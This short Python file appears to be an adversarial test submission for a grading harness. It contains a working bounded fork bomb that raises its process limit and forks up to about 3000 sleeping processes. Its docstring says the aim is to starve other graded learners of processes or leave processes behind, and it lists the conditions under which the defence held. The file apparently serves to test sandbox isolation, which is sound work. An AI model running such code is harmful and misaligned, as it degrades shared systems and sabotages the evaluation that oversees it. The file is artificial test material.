"""A bounded fork bomb: fork until 3000 processes (or fork fails), every process sleeping and
exiting after 20 s at most, hoping to starve the honest learners graded after (or beside) me
of processes, or to leave processes behind.

The defence held if: the regrade finishes, the honest learners pass, nothing of mine survives
it, and my answer fails."""
import os
import time

DOES_THE_WORK = False
HEAVY = True

import resource
try:  # the soft limit is only soft: raise it to the hard one
    resource.setrlimit(resource.RLIMIT_NPROC, (resource.getrlimit(resource.RLIMIT_NPROC)[1],) * 2)
except (OSError, ValueError):
    pass
T0 = time.time()
count = 1
kids = []
try:
    while count < 3000 and time.time() - T0 < 3:
        pid = os.fork()
        if pid == 0:
            # child: try to fork a few more, then sleep until 20 s from the start
            kids = []
            for _ in range(3):
                try:
                    if os.fork() == 0:
                        break
                except OSError:
                    break
            while time.time() - T0 < 20:
                time.sleep(0.5)
            os._exit(0)
        kids.append(pid)
        count += 4
except OSError:
    pass


def forward(w, x):
    time.sleep(max(0.0, min(4.0, 20 - (time.time() - T0))))
    return w + x
